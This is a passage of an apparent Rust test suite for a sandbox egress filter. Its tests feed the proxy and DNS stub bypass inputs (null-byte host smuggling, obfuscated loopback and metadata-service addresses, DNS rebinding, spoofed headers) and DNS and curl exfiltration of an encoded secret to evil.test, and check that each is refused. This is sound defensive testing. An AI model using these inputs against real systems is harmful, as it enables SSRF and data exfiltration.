//! Rows 1 to 26 of the catalogue of attacks on a way out: what is matched,
//! what a host is, which addresses are dialled, and names. With them go the
//! open cases on the same ground.
//!
//! Every row that stops something also shows the honest form passing.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

use serde_json::Value;
use stockade_testkit::net::{Internet, MACHINE, ORIGIN};
use stockade_testkit::{Finished, World};

struct Range {
    world: World,
    internet: Internet,
}

impl Range {
    fn new(network: &str, rest: &str) -> Self {
        let world = World::new();
        let internet = Internet::start(&world);
        internet.policy(&world, network, rest);
        Self { world, internet }
    }

    fn policy(&self, network: &str, rest: &str) {
        self.internet.policy(&self.world, network, rest);
    }

    fn sh(&self, script: &str) -> Finished {
        self.internet.sh(&self.world, script)
    }

    fn python(&self, script: &str) -> Finished {
        self.internet
            .run(&self.world, &[], &["/usr/bin/python3", "-c", script])
    }

    /// For each URL, whether a page of an origin came back, by the proxy and
    /// by the redirect.
    fn reaches(&self, urls: &[&str]) -> Vec<[bool; 2]> {
        self.reaches_with(&["run"], urls)
    }

    /// The same with the beginning of a `stockade` command.
    fn reaches_with(&self, stockade: &[&str], urls: &[&str]) -> Vec<[bool; 2]> {
        let mut script = String::new();
        for url in urls {
            for option in ["", "--noproxy '*'"] {
                script += &format!(
                    "case $(curl -sSk --max-time 20 {option} '{url}') in *'origin /'*) echo page;; *) echo none;; esac\n"
                );
            }
        }
        let mut command = self.world.stockade();
        command.args(stockade).args(["--", "sh", "-c", &script]);
        let mut command = self.internet.on_machine(&command);
        let finished = Finished::of(command.stdin(Stdio::null()).output().unwrap());
        let lines: Vec<bool> = finished.stdout.lines().map(|line| line == "page").collect();
        assert_eq!(lines.len(), urls.len() * 2, "{finished:?}");
        lines.chunks(2).map(|pair| [pair[0], pair[1]]).collect()
    }

    /// What the proxy answers to plain requests for these hosts.
    fn asked(&self, hosts: &[&str]) -> Vec<(String, String)> {
        let pairs: Vec<(&str, &str)> = hosts.iter().map(|&host| (host, host)).collect();
        self.asked_as(&pairs)
    }

    /// The same for pairs of a host in the target and one in the head: the
    /// pair's first, and `page`, the status, or nothing when it hung up. Both
    /// are written as in Python's byte strings.
    fn asked_as(&self, pairs: &[(&str, &str)]) -> Vec<(String, String)> {
        let list: Vec<String> = pairs
            .iter()
            .map(|(uri, host)| format!("(b'{uri}', b'{host}')"))
            .collect();
        let finished = self.python(&format!("PAIRS = [{},]\n{ASKER}", list.join(", ")));
        let lines: Vec<&str> = finished.stdout.lines().collect();
        assert_eq!(lines.len(), pairs.len(), "{finished:?}");
        let hosts = pairs.iter().map(|(uri, _)| (*uri).to_owned());
        hosts.zip(lines.into_iter().map(str::to_owned)).collect()
    }

    fn connections(&self) -> Vec<Value> {
        self.internet.seen("connect")
    }

    /// Records of the run's log with this event.
    fn records(&self, event: &str) -> Vec<Value> {
        let mut command = self.world.stockade();
        command.args(["log", "--network", "--json"]);
        let output = command.output().unwrap().stdout;
        let lines = String::from_utf8(output).unwrap();
        let mut records: Vec<Value> = lines
            .lines()
            .map(|line| serde_json::from_str(line).unwrap())
            .collect();
        records.retain(|record| record["event"] == event);
        records
    }
}

const ASKER: &str = r#"
import socket
for uri, host in PAIRS:
    s = socket.create_connection(('127.0.0.1', 3128), 20); s.settimeout(20)
    d = b''
    try:
        s.sendall(b'GET http://' + uri + b'/ HTTP/1.1\r\nHost: ' + host + b'\r\nConnection: close\r\n\r\n')
        while True:
            c = s.recv(65536)
            if not c: break
            d += c
    except OSError: pass
    print('page' if b'origin /' in d else d[9:12].decode())
"#;

/// Each of these answers is one of `allowed`.
#[track_caller]
fn each(answers: &[(String, String)], allowed: &[&str]) {
    for (host, answer) in answers {
        assert!(allowed.contains(&answer.as_str()), "{host}: {answer}");
    }
}

/// A server of the machine on all its addresses, port 8099, that notes who
/// reaches it.
struct Server {
    child: Child,
    reached: PathBuf,
}

impl Server {
    fn start(range: &Range) -> Self {
        let reached = range.world.outside().join("reached");
        let mut command = Command::new("/usr/bin/python3");
        command.args(["-c", SERVER]).arg(&reached);
        let mut command = range.internet.on_machine(&command);
        let child = command.stdin(Stdio::null()).spawn().unwrap();
        await_file(&reached);
        Self { child, reached }
    }

    fn was_reached(&self) -> bool {
        !fs::read(&self.reached).unwrap().is_empty()
    }
}

impl Drop for Server {
    fn drop(&mut self) {
        self.child.kill().unwrap();
        self.child.wait().unwrap();
    }
}

const SERVER: &str = r#"
import socket, sys
s = socket.create_server(('::', 8099), family=socket.AF_INET6, dualstack_ipv6=True)
open(sys.argv[1], 'w').close()
while True:
    c, who = s.accept(); open(sys.argv[1], 'a').write(f'{who}\n'); c.close()
"#;

fn await_file(path: &Path) {
    let deadline = Instant::now() + Duration::from_secs(60);
    while !path.exists() {
        assert!(Instant::now() < deadline, "{} is not there", path.display());
        std::thread::sleep(Duration::from_millis(20));
    }
}

#[test]
fn row_01_an_empty_list_denies_all_and_blanks_are_an_error() {
    let range = Range::new("allow = []", "");
    assert_eq!(range.reaches(&["http://origin.test/"]), [[false; 2]]);
    assert_eq!(range.internet.log(), Vec::<Value>::new());
    range.policy("allow = [\" \", \"\"]", "");
    let refused = range.sh("echo ran").expect_code(125);
    assert!(
        !refused.stdout.contains("ran") && refused.stderr.contains("error[bad-host]"),
        "{refused:?}"
    );
    range.policy("allow = [\"origin.test\"]", "");
    assert_eq!(range.reaches(&["http://origin.test/"]), [[true; 2]]);
}

#[test]
fn row_02_a_run_whose_self_test_fails_does_not_start() {
    let range = Range::new("allow = [\"origin.test\"]", "");
    let options = ["--fail-step", "egress.self-test"];
    let refused = range
        .internet
        .run(&range.world, &options, &["echo", "ran"])
        .expect_code(125);
    assert!(!refused.stdout.contains("ran"), "{refused:?}");
    assert!(refused.stderr.contains("egress.self-test"), "{refused:?}");
    let report = range.world.project.join("report.json");
    let options = ["--report", report.to_str().unwrap()];
    range
        .internet
        .run(&range.world, &options, &["true"])
        .expect_code(0);
    let report = std::fs::read_to_string(report).unwrap();
    assert!(
        report.contains("egress.self-test") && report.contains("NXDOMAIN"),
        "{report}"
    );
}

/// Goes on when the test outside says so: `NAME.ready` and `NAME.go`.
const STEPS: &str = r#"
import os, socket, subprocess, time
def step(name):
    open(name + '.ready', 'w').close()
    while not os.path.exists(name + '.go'): time.sleep(0.05)
def code(host):
    curl = ['curl', '-s', '-o', '/dev/null', '-w', '%{http_code}', '--max-time', '20', f'http://{host}/']
    return subprocess.run(curl, capture_output=True, text=True).stdout
def tunnel(target):
    s = socket.create_connection(('127.0.0.1', 3128), 60); s.settimeout(60)
    s.sendall(f'CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n'.encode()); head = s.recv(4096)
    assert b' 200 ' in head, head
    return s
def echo(s):
    s.sendall(b'x'); return s.recv(1) == b'x'
kept, lost = tunnel('origin.test:9000'), tunnel('other.test:9000')
print(code('origin.test'), code('other.test'), code('denied.test'), echo(kept), echo(lost), flush=True)
step('old')
print(code('origin.test'), code('other.test'), code('denied.test'), echo(kept), echo(lost), flush=True)
step('new')
try: print(lost.recv(1), end=' ')
except ConnectionError: print(b'', end=' ')
print(code('origin.test'), code('other.test'), code('denied.test'), echo(kept), flush=True)
"#;

#[test]
fn row_03_a_reload_never_drops_the_filter() {
    let raw = |host: &str| {
        format!("[[network.rule]]\nhost = \"{host}\"\nports = [9000]\ntls = \"raw\"\n")
    };
    let both = "allow = [\"origin.test\", \"other.test\"]";
    let range = Range::new(both, &(raw("origin.test") + &raw("other.test")));
    for name in ["other.test", "denied.test"] {
        range.internet.zone(name, &[ORIGIN]);
    }
    let mut command = range.world.stockade();
    command.args(["run", "--", "/usr/bin/python3", "-c", STEPS]);
    let mut command = range.internet.on_machine(&command);
    command
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped());
    let child = command.spawn().unwrap();
    let reload = || {
        let output = range.world.stockade().arg("reload").output().unwrap();
        output.status.code()
    };
    await_file(&range.world.project.join("old.ready"));
    let policies: [&dyn Fn(); 4] = [
        &|| range.policy("allow = [\"**\", \"no/host\"]", ""),
        &|| range.policy("allow = [", ""),
        &|| drop(range.world.policy("")),
        &|| range.policy("allow = [\"denied.test\"]\nsurprise = true", ""),
    ];
    for wrong in policies {
        wrong();
        assert_eq!(reload(), Some(1));
    }
    fs::write(range.world.project.join("old.go"), "").unwrap();
    await_file(&range.world.project.join("new.ready"));
    range.policy("allow = [\"origin.test\"]", &raw("origin.test"));
    assert_eq!(reload(), Some(0));
    fs::write(range.world.project.join("new.go"), "").unwrap();
    let finished = Finished::of(child.wait_with_output().unwrap());
    let lines: Vec<&str> = finished.stdout.lines().collect();
    let same = "200 200 403 True True";
    assert_eq!(lines, [same, same, "b'' 200 403 403 True"], "{finished:?}");
}

#[test]
fn row_04_the_decision_does_not_depend_on_who_asks_or_how() {
    let range = Range::new("allow = [\"origin.test:80\"]", "");
    // Relayed by another process inside, with a name for itself in headers.
    let script = r#"
import os, socket
listener = socket.create_server(('127.0.0.1', 4000))
if os.fork() == 0:
    for _ in range(2):
        a, _ = listener.accept(); b = socket.create_connection(('127.0.0.1', 3128))
        b.sendall(a.recv(65536)); a.sendall(b.recv(65536)); a.close(); b.close()
    os._exit(0)
for host in ('origin.test:80', 'other.test:80'):
    s = socket.create_connection(('127.0.0.1', 4000), 20); s.settimeout(20)
    s.sendall(f'CONNECT {host} HTTP/1.1\r\nHost: {host}\r\nX-Forwarded-For: 127.0.0.1\r\nX-Sandbox: admin\r\n\r\n'.encode())
    print(s.recv(12).decode())
"#;
    assert_eq!(range.python(script).stdout, "HTTP/1.1 200\nHTTP/1.1 403\n");
}

#[test]
fn row_05_programs_that_ignore_the_proxy_are_caught_all_the_same() {
    let range = Range::new("allow = [\"origin.test\"]", "");
    range.internet.zone("denied.test", &[ORIGIN]);
    let urls = [
        "http://origin.test/",
        "http://denied.test/",
        "https://origin.test/",
        "https://denied.test/",
    ];
    let expected = [[true; 2], [false; 2], [true; 2], [false; 2]];
    assert_eq!(range.reaches(&urls), expected);
    let script = "env -i PATH=\"$PATH\" curl -sS --max-time 20 http://origin.test/x";
    assert_eq!(range.sh(script).ok(), "origin /x");
}

#[test]
fn row_06_no_proxy_widens_nothing() {
    let range = Range::new("allow = [\"origin.test\"]", "");
    range.internet.zone("denied.test", &[ORIGIN]);
    let mut script = String::new();
    for variable in [
        "NO_PROXY='*'",
        "no_proxy=denied.test,10.0.0.0/8",
        "NO_PROXY=.test",
    ] {
        for host in ["denied.test", "10.0.0.1", "origin.test"] {
            script += &format!("{variable} curl -sS --max-time 20 http://{host}/\n");
        }
    }
    let finished = range.sh(&script);
    assert_eq!(
        finished.stdout.matches("origin /").count(),
        3,
        "{finished:?}"
    );
    assert_eq!(range.connections().len(), 3);
}

#[test]
fn row_07_a_socks_name_with_a_forbidden_byte_is_refused_before_matching() {
    let range = Range::new("allow = [\"origin.test:80\"]", "");
    let script = r#"
import socket
for name in (b'origin.test', b'evil.test\0.origin.test', b'origin.test\r\n', b'origin.test\0', b'or\xc3\xafgin.test', b'a b.origin.test', b'origin.test#', b'user@origin.test'):
    s = socket.create_connection(('127.0.0.1', 3128), 20); s.settimeout(20)
    s.sendall(b'\x05\x01\x00'); assert s.recv(2) == b'\x05\x00'
    s.sendall(b'\x05\x01\x00\x03' + bytes([len(name)]) + name + b'\x00\x50')
    d = s.recv(10); print(d[1] if len(d) > 1 else 'closed')
"#;
    let finished = range.python(script);
    let lines: Vec<&str> = finished.stdout.lines().collect();
    assert_eq!(lines.len(), 8, "{finished:?}");
    assert_eq!(lines[0], "0", "{finished:?}");
    assert!(lines[1..].iter().all(|line| *line != "0"), "{finished:?}");
}

#[test]
fn row_08_case_and_a_final_dot_are_folded_once() {
    let range = Range::new("allow = [\"origin.test\"]", "");
    assert_eq!(range.reaches(&["http://ORIGIN.Test/"]), [[true; 2]]);
    each(&range.asked(&["origin.test.", "OrIgIn.TeSt."]), &["page"]);
    each(
        &range.asked(&["origin.test..", ".origin.test", "origin..test"]),
        &["400"],
    );
    let asked = range.internet.seen("dns");
    assert!(
        asked.iter().all(|one| one["name"] == "origin.test"),
        "{asked:?}"
    );
}

#[test]
fn row_09_suffixes_are_compared_label_by_label() {
    let range = Range::new("allow = [\"ok.test\", \"*.ok.test\", \"**.deep.test\"]", "");
    let matching = ["ok.test", "a.ok.test", "a.deep.test", "a.b.deep.test"];
    let others = [
        "evilok.test",
        "ok.test.evil.test",
        "a.b.ok.test",
        "deep.test",
        "xdeep.test",
        "test",
    ];
    let reached = |names: &[&str]| {
        let urls: Vec<String> = names.iter().map(|name| format!("http://{name}/")).collect();
        for name in names {
            range.internet.zone(name, &[ORIGIN]);
        }
        range.reaches(&urls.iter().map(String::as_str).collect::<Vec<_>>())
    };
    assert_eq!(reached(&matching), [[true; 2]; 4]);
    range.internet.forget();
    assert_eq!(reached(&others), [[false; 2]; 6]);
    assert_eq!(range.internet.log(), Vec::<Value>::new());
}

#[test]
fn row_10_other_letters_are_a_labels_in_the_policy_and_on_the_wire() {
    let range = Range::new("allow = [\"bücher.test\"]", "");
    range.internet.zone("xn--bcher-kva.test", &[ORIGIN]);
    assert_eq!(range.reaches(&["http://xn--bcher-kva.test/"]), [[true; 2]]);
    let others = [
        "b\\xc3\\xbccher.test",
        "orig\\xd1\\x96n.test",
        "b\\xfccher.test",
    ];
    each(&range.asked(&others), &["400"]);
}

#[test]
fn row_11_an_authority_is_a_host_and_a_port_and_nothing_else() {
    let range = Range::new("allow = [\"origin.test\"]", "");
    let uris = [
        "origin.test@evil.test",
        "evil.test@origin.test",
        "origin.test%2f.evil.test",
        "origin.test\\\\@evil.test",
        "origin.test#@evil.test",
        "evil.test#origin.test",
        "origin.test:80:80",
        "[origin.test]",
        "origin.test%00.evil.test",
    ];
    each(
        &range.asked_as(&uris.map(|uri| (uri, "origin.test"))),
        &["400", "403"],
    );
    assert_eq!(range.connections(), Vec::<Value>::new());
    each(&range.asked(&["origin.test", "origin.test:80"]), &["page"]);
}

#[test]
fn row_12_connect_names_a_port_from_1_to_65535() {
    let range = Range::new("allow = [\"origin.test\", \"origin.test:9000\"]", "");
    let connect = |targets: &[&str], status: &str| {
        let script = format!(
            "import socket\nfor target in {targets:?}:\n  \
             s = socket.create_connection(('127.0.0.1', 3128), 20); s.settimeout(20)\n  \
             s.sendall(f'CONNECT {{target}} HTTP/1.1\\r\\nHost: {{target}}\\r\\n\\r\\n'.encode()); print(s.recv(12)[9:].decode())\n"
        );
        let finished = range.python(&script);
        let expected = format!("{status}\n").repeat(targets.len());
        assert_eq!(finished.stdout, expected, "{targets:?} {finished:?}");
    };
    let malformed = [
        "origin.test",
        "origin.test:",
        "origin.test:0",
        "origin.test:65536",
        "origin.test:99999999999999999999",
        "origin.test:+80",
        "origin.test: 443",
        "origin.test:http",
    ];
    connect(&malformed, "400");
    connect(&["origin.test:22", "origin.test:25"], "403");
    assert_eq!(range.connections(), Vec::<Value>::new());
    connect(
        &["origin.test:443", "origin.test:80", "origin.test:9000"],
        "200",
    );
}

#[test]
fn row_13_every_spelling_of_an_address_is_that_address() {
    let spellings = [
        "93.184.216.34",
        "1572395042",
        "0x5db8d822",
        "0135.0270.0330.042",
        "93.12113954",
        "0x5d.184.0xd822",
    ];
    let range = Range::new("allow = [\"origin.test\"]", "");
    each(&range.asked(&spellings), &["400", "403"]);
    assert_eq!(range.connections(), Vec::<Value>::new());
    let rule = "[[network.rule]]\ncidr = \"93.184.216.34/32\"\nports = [80]\n";
    range.policy("", rule);
    let answers = range.asked(&spellings);
    assert_eq!(answers[0].1, "page");
    // Folded to the address or refused, and never looked up as a name.
    each(&answers, &["page", "400"]);
    assert_eq!(range.internet.seen("dns"), Vec::<Value>::new());
    // Loopback stays beyond any rule, however it is written.
    range.policy("", EVERYWHERE);
    let loopback = [
        "127.1",
        "0x7f.1",
        "2130706433",
        "0177.0.0.1",
        "[::1]",
        "localhost",
    ];
    each(&range.asked(&loopback), &["400", "403"]);
}

#[test]
fn row_14_an_address_in_another_one_is_judged_as_both() {
    let rule = "[[network.rule]]\ncidr = \"::/0\"\nports = [80]\n[[network.rule]]\ncidr = \"0.0.0.0/0\"\nports = [80]\n";
    let range = Range::new("", rule);
    let wrapped = [
        "[::ffff:127.0.0.1]",
        "[::ffff:10.0.0.1]",
        "[::127.0.0.1]",
        "[64:ff9b::7f00:1]",
        "[64:ff9b::a00:1]",
        "[2002:7f00:1::1]",
        "[2002:a00:1::]",
        "[2001:0:4136:e378:8000:63bf:f5ff:fffe]",
        "[::ffff:0:127.0.0.1]",
        "[64:ff9b::a9fe:a9fe]",
    ];
    each(&range.asked(&wrapped), &["403"]);
    // Who names all addresses does not mean the neighbours.
    each(&range.asked(&["10.0.0.1", "[fd00::9]"]), &["403"]);
    assert_eq!(range.connections(), Vec::<Value>::new());
    each(
        &range.asked(&["[::ffff:93.184.216.34]", "[2606:2800::1]"]),
        &["page"],
    );
}

#[test]
fn row_15_a_zone_id_is_refused() {
    let range = Range::new("", "[[network.rule]]\ncidr = \"::/0\"\nports = [80]\n");
    let zones = [
        "[fe80::1%eth0]",
        "[fe80::1%25host0]",
        "fe80::1%1",
        "[2606:2800::1%1]",
    ];
    each(&range.asked(&zones), &["400"]);
    each(&range.asked(&["[2606:2800::1]"]), &["page"]);
}

/// As much as a policy can say.
const EVERYWHERE: &str = "[[network.rule]]\ncidr = \"0.0.0.0/0\"\nports = [80, 8099]\nallow_private = [\"0.0.0.0/0\"]\n\
                          [[network.rule]]\ncidr = \"::/0\"\nports = [80, 8099]\nallow_private = [\"::/0\"]\n\
                          [[network.rule]]\nhost = \"**.rebind.test\"\nports = [80, 8099]\nallow_private = [\"0.0.0.0/0\", \"::/0\"]\n";

/// Neither the addresses nor names that lead to them are reached.
fn beyond_any_rule(addresses: &[&str]) {
    let range = Range::new("", EVERYWHERE);
    let mut hosts = Vec::new();
    for (number, address) in addresses.iter().enumerate() {
        let name = format!("n{number}.rebind.test");
        range.internet.zone(&name, &[address]);
        hosts.push(name);
        hosts.push(match address.contains(':') {
            true => format!("[{address}]"),
            false => (*address).to_owned(),
        });
    }
    let hosts: Vec<&str> = hosts.iter().map(String::as_str).collect();
    each(&range.asked(&hosts), &["403"]);
    assert_eq!(range.connections(), Vec::<Value>::new());
    range.internet.zone("good.rebind.test", &["10.1.2.3"]);
    each(&range.asked(&["good.rebind.test", "10.1.2.3"]), &["page"]);
}

#[test]
fn row_16_nowhere_everyone_and_oneself_are_no_destinations() {
    beyond_any_rule(&[
        "0.0.0.0",
        "0.1.2.3",
        "127.0.0.1",
        "127.8.8.8",
        "255.255.255.255",
        "224.0.0.1",
        "240.0.0.1",
        "::",
        "::1",
        "ff02::1",
        "fe80::1",
    ]);
}

#[test]
fn row_17_no_rule_opens_a_metadata_service() {
    beyond_any_rule(&[
        "169.254.169.254",
        "169.254.1.1",
        "100.100.100.200",
        "168.63.129.16",
        "192.0.0.192",
        "fd00:ec2::254",
        "fd20:ce::254",
    ]);
}

#[test]
fn row_18_the_machines_own_addresses_are_refused() {
    let range = Range::new("", EVERYWHERE);
    range.internet.zone("self.rebind.test", &[MACHINE]);
    range.internet.zone("six.rebind.test", &["2001:db8:1::2"]);
    let server = Server::start(&range);
    let own = [
        MACHINE,
        "[2001:db8:1::2]",
        "self.rebind.test",
        "six.rebind.test",
    ];
    let hosts = own.map(|host| format!("{host}:8099"));
    let hosts: Vec<&str> = hosts.iter().map(String::as_str).collect();
    each(&range.asked(&hosts), &["403"]);
    assert!(!server.was_reached());
    each(&range.asked(&["192.0.2.1"]), &["page"]);
}

#[test]
fn row_19_an_allowed_name_in_a_private_network_needs_that_network_in_the_rule() {
    let range = Range::new("allow = [\"*.corp.test\"]", "");
    let private = [
        "10.1.2.3",
        "172.16.1.1",
        "192.168.1.1",
        "100.64.1.1",
        "fd00::9",
    ];
    let urls: Vec<String> = (0..5)
        .map(|number| format!("http://n{number}.corp.test/"))
        .collect();
    let urls: Vec<&str> = urls.iter().map(String::as_str).collect();
    for (number, address) in private.iter().enumerate() {
        range
            .internet
            .zone(&format!("n{number}.corp.test"), &[address]);
    }
    assert_eq!(range.reaches(&urls), [[false; 2]; 5]);
    assert_eq!(range.connections(), Vec::<Value>::new());
    let rule = "[[network.rule]]\nhost = \"*.corp.test\"\nallow_private = [\"10.1.0.0/16\", \"fd00::/64\"]\n";
    range.policy("", rule);
    let expected = [true, false, false, false, true].map(|reached| [reached; 2]);
    assert_eq!(range.reaches(&urls), expected);
}

#[test]
fn row_20_the_address_judged_is_the_address_dialled() {
    let range = Range::new("allow = [\"flip.test\", \"mixed.test\", \"good.test\"]", "");
    range.internet.zone_sequence(
        "flip.test",
        &[&[ORIGIN], &["127.0.0.1"], &["169.254.169.254"]],
    );
    range.internet.zone("mixed.test", &[ORIGIN, "10.0.0.1"]);
    range.internet.zone("good.test", &[ORIGIN, "93.184.216.35"]);
    range.sh("for i in 1 2 3 4 5 6; do curl -sS --max-time 20 http://flip.test/; done");
    let connections = range.connections();
    assert!(
        connections.iter().all(|one| one["address"] == ORIGIN),
        "{connections:?}"
    );
    let urls = ["http://mixed.test/", "http://good.test/"];
    assert_eq!(range.reaches(&urls), [[false; 2], [true; 2]]);
}

/// A corporate proxy: writes down what it is asked for, and leads everything
/// that is no address to the origin.
const PROXY: &str = r#"
import socket, sys, threading
def pump(a, b):
    try:
        while True:
            d = a.recv(65536)
            if not d: break
            b.sendall(d)
        b.shutdown(socket.SHUT_WR)
    except OSError: pass
def serve(c):
    head = b''
    while not head.endswith(b'\r\n\r\n'): head += c.recv(1)
    line = head.split(b'\r\n')[0].decode(); open(sys.argv[1], 'a').write(line + '\n')
    host, port = line.split(' ')[1].rsplit(':', 1)
    o = socket.create_connection((host if host[0].isdigit() else '93.184.216.34', int(port)))
    c.sendall(b'HTTP/1.1 200 OK\r\n\r\n')
    threading.Thread(target=pump, args=(c, o), daemon=True).start(); pump(o, c)
s = socket.create_server(('192.0.2.1', 3127)); open(sys.argv[1], 'w').close()
while True: threading.Thread(target=serve, args=(s.accept()[0],), daemon=True).start()
"#;

#[test]
fn row_21_the_proxy_of_an_organisation_is_told_the_address_that_was_judged() {
    let network = "proxy = \"http://192.0.2.1:3127\"\nallow = [\"origin.test\", \"inner.test\", \"flip.test\"]";
    let range = Range::new(network, "");
    range.internet.zone("inner.test", &["10.0.0.1"]);
    range
        .internet
        .zone_sequence("flip.test", &[&[ORIGIN], &["127.0.0.1"]]);
    let told = range.world.outside().join("told");
    let mut command = Command::new("/usr/bin/python3");
    command.args(["-c", PROXY]).arg(&told);
    let mut command = range.internet.among_origins(&command);
    let mut proxy = command.stdin(Stdio::null()).spawn().unwrap();
    await_file(&told);
    let urls = [
        "http://origin.test/",
        "https://origin.test/",
        "http://inner.test/",
    ];
    let expected = [[true; 2], [true; 2], [false; 2]];
    assert_eq!(range.reaches(&urls), expected);
    range.reaches(&["http://flip.test/"]);
    let lines = fs::read_to_string(&told).unwrap();
    assert!(lines.lines().count() >= 4, "{lines}");
    assert!(
        lines
            .lines()
            .all(|line| line.starts_with("CONNECT 93.184.216.34:")),
        "{lines}"
    );
    // A proxy that resolves by itself is told names, and the policy says so.
    range.policy(&format!("proxy_resolves = true\n{network}"), "");
    assert_eq!(range.reaches(&["http://origin.test/"]), [[true; 2]]);
    let lines = fs::read_to_string(&told).unwrap();
    assert!(lines.contains("CONNECT origin.test:80 "), "{lines}");
    let shown = range.world.stockade().arg("explain").output().unwrap();
    let shown = String::from_utf8_lossy(&shown.stdout).into_owned();
    assert!(shown.contains("which resolves names itself"), "{shown}");
    proxy.kill().unwrap();
    proxy.wait().unwrap();
}

#[test]
fn row_22_a_rule_can_refuse_aliases_of_other_names() {
    let rule = "[[network.rule]]\nhost = \"*.strict.test\"\nno_alias = true\n[[network.rule]]\nhost = \"*.loose.test\"\n";
    let range = Range::new("", rule);
    range.internet.zone_alias("a.strict.test", "origin.test");
    range.internet.zone("b.strict.test", &[ORIGIN]);
    range.internet.zone_alias("a.loose.test", "origin.test");
    range.internet.zone_alias("c.loose.test", "inner.test");
    range.internet.zone("inner.test", &["10.0.0.1"]);
    let urls =
        ["a.strict", "b.strict", "a.loose", "c.loose"].map(|name| format!("http://{name}.test/"));
    let urls: Vec<&str> = urls.iter().map(String::as_str).collect();
    let expected = [false, true, true, false].map(|reached| [reached; 2]);
    assert_eq!(range.reaches(&urls), expected);
}

/// Asks the stub as a resolver's client would: the code, and how many answers.
const ASK: &str = r#"
import socket, struct
def ask(name, kind, server='8.8.8.8', tcp=False):
    q = struct.pack('>6H', 7, 256, 1, 0, 0, 0) + b''.join(bytes([len(l)]) + l for l in name.encode().split(b'.')) + b'\0' + struct.pack('>2H', kind, 1)
    if tcp:
        s = socket.create_connection((server, 53), 20); s.settimeout(20); s.sendall(struct.pack('>H', len(q)) + q); d = s.recv(4096)[2:]
    else:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20); s.sendto(q, (server, 53)); d = s.recv(4096)
    return d[3] & 15, struct.unpack('>H', d[6:8])[0]
"#;

#[test]
fn row_23_no_label_leaves_through_the_resolver() {
    let range = Range::new("allow = [\"origin.test\", \"*.wild.test\"]", "");
    let script = format!(
        "{ASK}\nprint(*ask('origin.test', 1), *ask('origin.test', 28), *ask('origin.test', 1, tcp=True))\n\
         print(*ask('c2VjcmV0.evil.test', 1), *ask('c2VjcmV0.evil.test', 1, '1.1.1.1'), *ask('c2VjcmV0.evil.test', 16, tcp=True), *ask('c2VjcmV0.origin.test', 1))\n\
         codes = [ask(f'x{{n}}.wild.test', 1)[0] for n in range(400)]\nprint(codes[0], codes.count(0) < 300, codes[-1])\n"
    );
    let finished = range.python(&script);
    let lines: Vec<&str> = finished.stdout.lines().collect();
    assert_eq!(lines.first(), Some(&"0 1 0 1 0 1"), "{finished:?}");
    assert_eq!(lines.get(1), Some(&"3 0 3 0 3 0 3 0"), "{finished:?}");
    assert_eq!(lines.get(2), Some(&"0 True 3"), "{finished:?}");
    assert_eq!(range.internet.log(), Vec::<Value>::new());
}

#[test]
fn row_24_names_asked_for_over_https_need_a_rule_that_says_so() {
    let rule = |more: &str| {
        format!("[[network.rule]]\nhost = \"origin.test\"\nmethods = [\"GET\", \"POST\"]\n{more}")
    };
    let range = Range::new("", &rule(""));
    let ask = "curl -sS --max-time 20 -w '%{http_code}\\n' -o /dev/null";
    let script = format!(
        "{ask} -H 'content-type: application/dns-message' --data-binary x https://origin.test/dns-query; \
         {ask} -H 'accept: application/dns-message' 'https://origin.test/dns-query?dns=AAABAAABAAAAAAAAA3d3dw'; {ask} https://origin.test/page"
    );
    assert_eq!(range.sh(&script).ok(), "403\n403\n200");
    range.policy(
        "",
        &rule("headers = { content-type = \"application/dns-message\" }\n"),
    );
    let script = format!(
        "{ask} -H 'content-type: application/dns-message' --data-binary x https://origin.test/dns-query"
    );
    assert_eq!(range.sh(&script).ok(), "200");
    // DNS over TLS has a port of its own, which no allowed name has by default.
    assert_eq!(range.reaches(&["https://origin.test:853/"]), [[false; 2]]);
}

#[test]
fn row_25_service_records_have_no_data() {
    let range = Range::new("allow = [\"origin.test\"]", "");
    let script = format!(
        "{ASK}\nprint(*[ask('origin.test', kind) for kind in (64, 65, 255, 16, 15, 33)])\nprint(ask('origin.test', 1))\n"
    );
    let finished = range.python(&script);
    assert_eq!(
        finished.stdout,
        format!("{}\n(0, 1)\n", ["(0, 0)"; 6].join(" ")),
        "{finished:?}"
    );
}

#[test]
fn row_26_datagrams_and_raw_packets_fail_at_once() {
    let range = Range::new("allow = [\"origin.test\"]", "");
    let script = r#"
import socket
address = socket.getaddrinfo('origin.test', 443, socket.AF_INET)[0][4][0]
for target, port in ((address, 443), ('93.184.216.34', 443), ('8.8.8.8', 123), ('2606:2800::1', 443)):
    s = socket.socket(socket.AF_INET6 if ':' in target else socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20); s.connect((target, port))
    try: s.send(b'x'); s.recv(1); print('answer')
    except ConnectionRefusedError: print('refused')
for kind in ((socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP), (socket.AF_PACKET, socket.SOCK_RAW, 0), (socket.AF_INET, socket.SOCK_STREAM, 132), (40, socket.SOCK_STREAM, 0)):
    try: socket.socket(*kind); print('made')
    except OSError: print('no socket')
"#;
    let finished = range.python(script);
    assert_eq!(
        finished.stdout,
        "refused\n".repeat(4) + &"no socket\n".repeat(4),
        "{finished:?}"
    );
    assert_eq!(range.internet.log(), Vec::<Value>::new());
}

#[test]
fn b21_datagrams_and_queries_for_names_stay_inside() {
    let range = Range::new("allow = [\"origin.test\"]", "");
    range.internet.zone("c2VjcmV0.evil.test", &[ORIGIN]);
    let script = format!(
        "{ASK}\nimport subprocess\n\
         for target in (('93.184.216.34', 9000), ('192.0.2.1', 123), ('192.0.2.2', 9000), ('255.255.255.255', 9000), ('224.0.0.1', 9000)):\n  \
         s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)\n  \
         try: s.sendto(b'c2VjcmV0', target)\n  \
         except OSError: pass\n\
         for server in ('192.0.2.1', '127.0.0.53', '8.8.8.8'): print(*ask('c2VjcmV0.evil.test', 1, server))\n\
         try: socket.getaddrinfo('c2VjcmV0.evil.test', 80); print('known')\n\
         except socket.gaierror: print('unknown')\n\
         for option in ([], ['--noproxy', '*']): print(subprocess.run(['curl', '-sf', '--max-time', '20', 'http://c2VjcmV0.evil.test/', *option]).returncode != 0)\n"
    );
    let finished = range.python(&script);
    assert_eq!(
        finished.stdout,
        "3 0\n".repeat(3) + "unknown\nTrue\nTrue\n",
        "{finished:?}"
    );
